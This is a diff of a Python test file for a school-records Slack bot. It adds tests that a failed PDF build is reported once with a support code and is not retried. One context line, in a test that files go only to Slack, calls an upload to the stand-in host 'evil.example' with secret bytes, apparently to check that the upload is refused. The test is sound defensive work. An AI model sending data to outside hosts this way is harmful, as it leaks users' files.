@@ -1,21 +1,25 @@
 """Files in somebody's own conversation: brought once, taken away again whatever happens, and never tried for ever."""
 
 import io
+import json
 
 import pytest
-from sqlalchemy import insert
+from sqlalchemy import Table, insert, update
 
+from bot.clock import school_day
 from bot.notices import Notice
+from bot.rules.access import State
 from bot.rules.documents import What
+from bot.rules.reminders.digest import Why
 from bot.services.documents import deliveries
 from handlers.slack.files import upload
-from storage.outbox import deliveries as storage
-from storage.outbox import queue
+from storage.access import request
+from storage.outbox import queue, reminders
 from storage.outbox.deliveries import delivery
 from tests.access.test_access import ask
 from tests.filter.test_register import files, opened
 from tests.front.test_search import opened as records_opened
-from tests.people import HANA
+from tests.people import DEV, HANA
 from tests.running.test_faults import log as log  # noqa: PLC0414 - a fixture
 from tests.school import School, acting, at_once
 
@@ -29,6 +33,11 @@ def _asked(school: School) -> int:
 def _still_waiting(school: School) -> int:
     with school.database.read() as connection:
         return queue.waiting(connection)
+
+
+def _ask_for_the_pdf(school: School) -> None:
+    record = school.press(DEV, records_opened(school, DEV), "Open", near="AR-1")
+    school.press(DEV, record, "Send me the PDF")
 
 
 def test_an_empty_list_is_said_to_be_empty(school: School) -> None:
@@ -130,12 +139,44 @@ def test_a_file_is_sent_to_slack_and_nobody_else(school: School) -> None:
         upload(school.bot.client, "https://evil.example/upload", b"secret")
 
 
+@pytest.mark.parametrize(
+    ("table", "newer", "named"),
+    [
+        (request, {"state": "awaiting the governors"}, "*AR-1 as a PDF could not be made:*"),
+        (delivery, {"what": "hologram"}, "*The file could not be made:*"),
+    ],
+)
+def test_a_file_that_breaks_in_the_making_is_said_once_with_a_code(
+    school: School, log: io.StringIO, table: Table, newer: dict[str, str], named: str
+) -> None:
+    ask(school)
+    _ask_for_the_pdf(school)
+    with school.database.begin() as connection:
+        connection.execute(update(table).values(**newer))  # as a newer version of Lanyard may have written it
+    assert files(school, DEV) == {}
+    told = school.people.message(DEV.user_id, "could not be made").text
+    assert named in told
+    logged = [json.loads(line) for line in log.getvalue().splitlines()]
+    assert [line["event"] for line in logged] == ["file not made"]
+    assert f"give your IT lead this code: {logged[0]['code']}" in told
+    assert "governors" not in log.getvalue()
+    assert _still_waiting(school) == 0
+    school.clock.forward(days=1)
+    assert school.deliver() == 0  # nobody tries it two hundred times
+    with school.database.begin() as connection:
+        connection.execute(update(request).values(state=State.AWAITING_REVIEW))
+    _ask_for_the_pdf(school)
+    assert list(files(school, DEV)) == ["AR-1.pdf"]
+
+
 def test_a_message_that_always_breaks_is_given_up_in_the_end(school: School, log: io.StringIO) -> None:
     hana = acting(school, HANA).person.person_id
+    day = school_day(school.clock(), "Europe/London")
+    told = {"school_id": 1, "told_key": "x", "reference": "x", "digest": 7, "reader_id": hana, "owner_id": hana}
+    told |= {"why": Why.OWN, "feature": "gone", "words": {}, "due": day, "told_at": school.clock()}
     with school.database.begin() as connection:
-        values = {"number": 7, "person_id": hana, "what": "gone", "subject": "", "press_id": "1"}
-        storage.add(connection, 1, **values, at=school.clock())  # type: ignore[arg-type]
-        queue.put(connection, 1, [queue.New("x", Notice.DELIVERY_READY, 7, hana, school.clock())])
+        connection.execute(insert(reminders.told).values(**told))
+        queue.put(connection, 1, [queue.New("x", Notice.REMINDERS_DIGEST, 7, hana, school.clock())])
     for _ in range(205):
         school.bot.sender.deliver()
         school.clock.forward(minutes=16)
